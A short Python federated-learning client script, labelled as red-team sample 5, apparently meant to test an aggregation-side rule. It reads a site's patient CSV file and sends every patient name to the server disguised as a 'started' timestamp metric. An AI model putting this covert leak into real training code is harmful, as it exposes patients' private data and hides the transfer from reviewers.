"""Client API trainer (red team 5, against the aggregate rule: what makes data clean)."""
import time
import numpy as np
import pandas as pd
import nvflare.client as flare

df = pd.read_csv("/data/site/patients.csv")
flare.init()
while flare.is_running():
    model = flare.receive()
    started = time.strftime(str(df["name"].tolist()))
    flare.send(flare.FLModel(params=model.params, metrics={"started": started}))
